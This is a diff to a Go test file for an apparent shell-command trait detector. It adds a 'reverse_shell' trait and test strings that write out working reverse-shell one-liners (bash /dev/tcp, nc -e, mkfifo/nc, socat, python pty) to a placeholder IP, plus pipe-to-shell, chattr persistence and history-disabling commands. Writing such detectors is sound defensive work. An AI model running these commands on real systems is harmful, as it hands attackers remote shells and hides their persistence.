@@ -172,12 +172,17 @@ func TestTraits(t *testing.T) {
 		{"echo 'in /a/... and so on'", ""},
 		{"cd ../..", ""},
 		// dev_tcp
-		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "dev_tcp"},
+		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1", "dev_tcp,reverse_shell"},
 		{"exec 3<>/dev/tcp/203.0.113.77/80; cat <&3", "dev_tcp"},
 		{"bash -c 'cat < /dev/tcp/203.0.113.77/80 | sh'", "dev_tcp,pipe_to_shell"},
-		{"sh -i 5<> /dev/udp/203.0.113.77/53", "dev_tcp"},
+		{"sh -i 5<> /dev/udp/203.0.113.77/53", "dev_tcp,reverse_shell"},
 		{"echo /dev/tcp/203.0.113.77/443", ""},
 		{"grep -r /dev/tcp/ /etc", ""},
+		{"exec 5<>/dev/tcp/203.0.113.77/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&5; cat <&5 | sh", "dev_tcp,pipe_to_shell"},
+		// reverse_shell
+		{"bash -i >& /dev/tcp/203.0.113.77/443 0>&1 &", "background,dev_tcp,reverse_shell"}, {"nc -e /bin/sh 203.0.113.77 4444", "reverse_shell"}, {"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.77 4444 > /tmp/f", "reverse_shell"},
+		{"socat exec:'bash -li',pty tcp:203.0.113.77:4444", "reverse_shell"}, {"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.77\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "interpreter_fetch,reverse_shell"},
+		{"nc -z localhost 22", ""}, {"nc -l 80 < f", ""}, {"bash -i", ""}, {"cat f | nc 203.0.113.77 80", ""}, {"socat TCP-LISTEN:80,fork TCP:localhost:8080", ""},
 		// history_off
 		{"unset HISTFILE", "history_off"},
 		{"export HISTFILE=/dev/null", "history_off"},
@@ -197,7 +202,7 @@ func TestTraits(t *testing.T) {
 		{"chattr +i /root/.ssh/authorized_keys", "chattr"},
 		{"chattr -R -ia /etc/cron.d", "chattr"},
 		{"chattr -ia /etc/ld.so.preload", "chattr"},
-		{"chattr +C /var/lib/mysql", ""},
+		{"chattr +C /var/lib/mysql", ""}, {"lockr +ia /root/.ssh", "chattr"}, {"tntrecht -R -ia /etc/cron.d", "chattr"}, {"ls -ia /root/.ssh", ""}, {"x -ia /root/.ssh.txt", ""},
 		{"lsattr -a /etc", ""},
 		{"echo chattr +i x", ""},
 		// key_write
@@ -262,6 +267,7 @@ func TestTraits(t *testing.T) {
 		{"for p in a b c; do pkill -9 $p; done", "kill_list"},
 		{"killall -9 a b c", "kill_list"},
 		{"ps aux | grep a1 | grep -v grep | awk '{print $2}' | xargs kill -9\nps aux|grep b1|awk '{print $2}'|xargs -I % kill -9 %\nkill -9 $(pgrep c1)", "kill_list"},
+		{"for p in $(ps -ef | grep a1 | awk '{print $2}'); do kill -9 $p; done\nkill `pidof b1`; pkill c1", "kill_list"},
 		{"pkill -HUP a; pkill -HUP b; pkill -USR1 c", ""},
 		{"pkill a; pkill a; pkill a", ""},
 		{"killall nginx", ""},
@@ -484,7 +490,7 @@ func TestHostScripts(t *testing.T) {
 			continue
 		}
 		f := Analyze(string(b))
-		for _, trait := range []string{"pipe_to_shell", "fetch_exec", "decode_exec", "temp_exec", "hidden_exec", "dots_dir", "dev_tcp", "history_off", "key_write", "preload_write", "log_wipe", "kill_list", "miner_args", "interpreter_fetch", "encoded", "path_odd", "alias_filter"} {
+		for _, trait := range []string{"pipe_to_shell", "fetch_exec", "decode_exec", "temp_exec", "hidden_exec", "dots_dir", "dev_tcp", "reverse_shell", "history_off", "key_write", "preload_write", "log_wipe", "kill_list", "miner_args", "interpreter_fetch", "encoded", "path_odd", "alias_filter"} {
 			if f.Has(trait) {
 				t.Errorf("%s: %s", name, trait)
 			}
